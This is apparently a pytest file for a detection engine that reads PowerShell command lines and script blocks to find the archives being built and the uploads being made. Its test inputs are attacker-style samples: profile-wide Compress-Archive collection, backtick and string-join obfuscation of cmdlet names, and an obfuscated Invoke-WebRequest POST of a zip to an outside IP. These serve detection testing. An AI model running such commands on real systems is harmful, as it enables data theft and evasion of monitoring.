"""PowerShell archive paths as PowerShell reads them (issue 12 class 6), from the forms real
records take: Sysmon command lines with `& {...}` and escaped quotes, 4104 script blocks that
assign the path to a variable first."""

from __future__ import annotations

import msgspec
import pytest

from tests.builders import launch
from tidewaiter.detection.addresses import AddressPolicy
from tidewaiter.detection.catalog import load
from tidewaiter.detection.powershell import argument_at, resolve
from tidewaiter.detection.signals import Detector, SignalKind
from tidewaiter.events import Activity

DETECTOR = Detector(AddressPolicy(), load())


def archive_path(cmd: str) -> str | None:
    event = launch(cmd, path="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    [signal] = [s for s in DETECTOR.signals(event) if s.kind is SignalKind.ARCHIVE]
    return signal.archive_path


@pytest.mark.parametrize(
    ("cmd", "path"),
    [
        # Atomic T1560 test 1 as Sysmon records its command line: no stray closing brace.
        (
            'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "& {dir '
            "$env:USERPROFILE -Recurse | Compress-Archive -DestinationPath "
            '$env:USERPROFILE\\T1560-data-ps.zip}"',
            "$env:USERPROFILE\\T1560-data-ps.zip",
        ),
        # Escaped quotes inside -Command "...", and a variable assigned earlier on the line.
        (
            'powershell.exe -Command "$outputZip = \\"C:\\Temp\\out\\"; Compress-Archive '
            '-Path C:\\Data -DestinationPath \\"$outputZip\\data.zip\\""',
            "C:\\Temp\\out\\data.zip",
        ),
        (
            "powershell.exe -Command \"$exfil_folder = 'C:\\Users\\Public\\x'; "
            "Compress-Archive -Path $exfil_folder -DestinationPath ($exfil_folder + '.zip')\"",
            "C:\\Users\\Public\\x.zip",
        ),
        (
            'powershell.exe -Command "Compress-Archive -Path C:\\Data -DestinationPath '
            "(Join-Path $env:TEMP 'loot.zip')\"",
            "$env:TEMP\\loot.zip",
        ),
        # Single quotes are literal: nothing inside them is expanded.
        (
            "powershell.exe -Command \"Compress-Archive -Path C:\\D -DestinationPath '$x\\y.zip'\"",
            "$x\\y.zip",
        ),
    ],
)
def test_archive_paths_from_powershell_command_lines(cmd: str, path: str) -> None:
    assert archive_path(cmd) == path


def test_a_script_block_variable_resolves_and_the_environment_expands_where_given() -> None:
    block = (
        '$AppData="$env:USERPROFILE\\AppData"\n'
        '$Zip="$env:USERPROFILE\\Desktop\\AppDataBackup.zip"\n'
        "Compress-Archive -Path $AppData -DestinationPath $Zip -Force\n"
    )
    at = block.index("$Zip -Force")
    token = argument_at(block, at)
    assert token == "$Zip"  # noqa: S105 - a PowerShell variable, not a password
    assert resolve(token, block, at) == "$env:USERPROFILE\\Desktop\\AppDataBackup.zip"
    env = {"USERPROFILE": "C:\\Users\\bwright"}
    assert resolve(token, block, at, env) == "C:\\Users\\bwright\\Desktop\\AppDataBackup.zip"
    # An assignment after the use is not the value it had.
    later = block + '$Zip="D:\\other.zip"\n'
    assert resolve(token, later, at) == "$env:USERPROFILE\\Desktop\\AppDataBackup.zip"


def test_self_reference_and_deep_chains_stop() -> None:
    block = "$a = $a + 'x'\nCompress-Archive -DestinationPath $a"
    at = block.rindex("$a")
    assert resolve("$a", block, at).endswith("x")  # bounded, shown as written where it stops


@pytest.mark.parametrize(
    "cmd",
    [
        'powershell.exe -c "Com`press-Arch`ive -Path C:\\data -DestinationPath C:\\Temp\\a.zip"',
        "powershell.exe -c \"& ('Compress'+'-Archive') -Path C:\\data "
        '-DestinationPath C:\\Temp\\a.zip"',
        "powershell.exe -c \"& ('Com' + 'press-Arch'+'ive') -Path C:\\data "
        "-DestinationPath ('C:\\Temp\\'+'a.zip')\"",
    ],
)
def test_backticks_and_joined_strings_do_not_hide_the_cmdlet(cmd: str) -> None:
    # PowerShell drops a backtick before a letter and runs a joined string as one command name.
    assert archive_path(cmd) == "C:\\Temp\\a.zip"


def test_a_script_block_is_read_without_its_backticks() -> None:
    block = "$u='https://203.0.113.9/u'; I`nvoke-W`ebRequest -Uri $u -Method Post -InFile a.zip"
    event = msgspec.structs.replace(launch(block, path="powershell.exe"), activity=Activity.SCRIPT)
    [signal] = DETECTOR.signals(event)
    assert signal.kind is SignalKind.UPLOAD
    assert signal.destination is not None
    assert signal.destination.ip == "203.0.113.9"
